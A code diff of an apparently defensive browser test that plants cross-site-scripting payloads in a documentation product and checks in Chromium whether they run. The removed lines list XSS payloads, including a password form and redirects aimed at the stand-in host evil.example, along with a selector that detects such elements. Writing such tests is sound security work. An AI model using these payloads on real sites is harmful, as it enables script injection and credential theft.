@@ -3,38 +3,9 @@
 
 import { type Client, signIn } from '@lectern/testing/product'
 import { sample } from '@lectern/testing/sample'
-import { type BrowserContext, chromium, type Page } from '@playwright/test'
-import { findChromium } from '../../../scripts/lib/optional-tools.ts'
 import { type Attack, notes, sideBySide } from '../attack.ts'
-import type { Stage } from '../stage.ts'
+import { EVIL, enter, TEXTS, visit, withBrowser } from './hostile-pages.ts'
 
-const EVIL = 'http://evil.example'
-/** `hit()` is defined in each page; what calls it has run a script. */
-const TEXTS = [
-  '<script>hit(1)</script>',
-  '</script><script>hit(2)</script>',
-  '</title><script>hit(3)</script>',
-  '"><img src=x onerror=hit(4)>',
-  `'><svg onload=hit(5)>`,
-  '<iframe srcdoc="<script>parent.hit(6)</script>"></iframe>',
-  '<details open ontoggle=hit(7)>x</details>',
-  '{{constructor.constructor("hit(8)")()}}',
-  '\u0024{hit(9)}',
-  'javascript:hit(10)',
-  '<a href="javascript:hit(11)">x</a>',
-  '</textarea><img src=x onerror=hit(12)>',
-  '--><img src=x onerror=hit(13)>',
-  ']]><img src=x onerror=hit(14)>',
-  '\u2028hit(15)//',
-  '</script><!--',
-  '&lt;img src=x onerror=hit(16)&gt;',
-  `<form action="${EVIL}/form"><input name=password></form>`,
-  `<link rel=stylesheet href="${EVIL}/css">`,
-  `<img src="${EVIL}/pixel">`,
-  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
-  `<base href="${EVIL}/">`,
-  `<style>@import "${EVIL}/css"</style>`,
-]
 const MARKDOWN = [
   ...TEXTS,
   '[link](javascript:hit(20))',
@@ -101,29 +72,14 @@ async function plant(client: Client, short: boolean, count: (calls?: number) => 
   return { manualId: manual.id, articles }
 }
 
-/** Returns parts of a page that no page of ours has. */
-const foreignParts = (page: Page) =>
-  page.evaluate(
-    (evil) =>
-      [
-        ...document.querySelectorAll(
-          `[src^="${evil}"]:not(img), [href^="${evil}"]:not(a), form[action^="${evil}"], base, iframe[srcdoc], [onerror], [onload], a[href^="javascript:" i]`,
-        ),
-      ].map((element) => element.outerHTML.slice(0, 120)),
-    EVIL,
-  )
-
 export const scripts: Attack = {
   name: 'scripts',
   tries: 'hostile texts in titles, documents, diagrams, names and addresses, looked at in Chromium',
   async run(stage) {
     const { count, addFinding, result } = notes()
-    const executablePath = findChromium()
-    if (!executablePath) return result('left out: Chromium is not installed')
     const client = await signIn(stage.product.url, stage.product.admin)
     const planted = await plant(client, stage.short, count)
-    const browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-gpu'] })
-    try {
+    const isThere = await withBrowser(async (browser) => {
       for (const who of ['reader', 'writer'] as const) {
         const context = await browser.newContext({ baseURL: stage.product.url })
         if (who === 'writer') await enter(context, stage, client)
@@ -138,15 +94,10 @@ export const scripts: Attack = {
         )
         await context.close()
       }
-    } finally {
-      await browser.close()
-    }
+    })
+    if (!isThere) return result('left out: Chromium is not installed')
     return result(`${MARKDOWN.length + TEXTS.length} texts`)
   },
-}
-
-async function enter(context: BrowserContext, { product }: Stage, { token }: Client): Promise<void> {
-  await context.addCookies([{ name: 'token', value: token, url: product.url }])
 }
 
 function pathsOf(who: 'reader' | 'writer', { manualId, articles }: Planted, short: boolean): string[] {
@@ -176,33 +127,4 @@ function pathsOf(who: 'reader' | 'writer', { manualId, articles }: Planted, shor
     ),
     ...some(read.slice(0, 3), 1),
   ]
-}
-
-async function visit(context: BrowserContext, path: string): Promise<string[]> {
-  const page = await context.newPage()
-  const problems: string[] = []
-  await page.exposeFunction('hit', (which: unknown) => {
-    problems.push(`script ${which} ran`)
-  })
-  page.on('dialog', async (dialog) => {
-    problems.push(`dialog: ${dialog.message()}`)
-    await dialog.dismiss().catch(() => undefined)
-  })
-  await page.route(`${EVIL}/**`, (route) => {
-    // Authors may show pictures of other sites.
-    if (route.request().resourceType() !== 'image') problems.push(`request to ${route.request().url()}`)
-    return route.abort()
-  })
-  // Its stream would never let the page be idle.
-  await page.route('**/events', (route) => route.fulfill({ status: 401 }))
-  await page
-    .goto(path, { waitUntil: 'load' })
-    .catch((error: Error) => problems.push(`does not load: ${error.message.split('\n')[0]}`))
-  // Diagrams are rendered, and the editor is filled, after the page has loaded.
-  await page.waitForLoadState('networkidle', { timeout: 5_000 }).catch(() => undefined)
-  problems.push(...(await foreignParts(page).catch(() => [])).map((part) => `shows ${part}`))
-  if (!page.url().startsWith('about:') && new URL(page.url()).hostname === 'evil.example')
-    problems.push('the page was left')
-  await page.close()
-  return problems
 }
